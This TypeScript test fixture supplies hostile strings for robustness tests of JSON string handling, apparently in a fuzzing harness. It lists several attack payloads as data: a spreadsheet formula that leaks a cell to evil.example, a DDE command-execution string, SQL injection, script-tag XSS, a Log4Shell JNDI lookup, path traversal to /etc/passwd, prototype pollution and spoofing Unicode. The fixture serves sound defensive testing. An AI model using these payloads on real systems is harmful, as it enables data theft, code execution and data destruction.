/** Text that breaks whoever trusts it, as the inside of a JSON string. */
import { draw, pick } from "./Draw.ts"
import { fixed } from "./RecordWriter.ts"

const texts: ReadonlyArray<Uint8Array> = [
  // spreadsheets
  `=HYPERLINK(\\"http://evil.example/?leak=\\"&A1,\\"open\\")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+573001234567`,
  `-2+3`,
  `\\t=1+1`,
  // separators and quotes
  `first line\\r\\nsecond line\\nthird`,
  `a,b;c\\t\\"d\\"\\"e\\",'f`,
  `'; DROP TABLE invoices; --`,
  `ends in a backslash\\\\`,
  // terminals
  `\\u001b[31mred\\u001b[0m\\u001b]0;title\\u0007\\u001b[2J`,
  `\\u009b31m\\b\\b\\b\\f\\u007f`,
  // characters that hide or turn others
  `\u202egnp.exe\u202c \u200f\u0661\u0662\u0663\u200e`,
  `zero\u200bwidth\u2060 \ufeffmark \u2028line \u2029paragraph`,
  `e\u0301 is not \u00e9, z\u0310\u0351\u036b\u0343`,
  `\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67 \ud83c\uddec\ud83c\udde7`,
  // what not every store can hold
  `before\\u0000after`,
  `\\ud800`,
  `\\udc00 lone \\ud83d`,
  // one text, spelled in two ways
  `caf\\u00e9 \\/ café /`,
  // mark-up, templates, names with a meaning elsewhere
  `</script><script>alert(1)</script>`,
  `\${jndi:ldap://evil.example/a} {{7*7}} %s%n %00 ../../etc/passwd`,
  `__proto__`,
  `null`,
  ``,
  ` `,
  "very long ".repeat(500)
].map(fixed)

/** The inside of a JSON string, by a draw. */
export const hostileText = (key: number): Uint8Array => pick(texts, draw(key, 0))
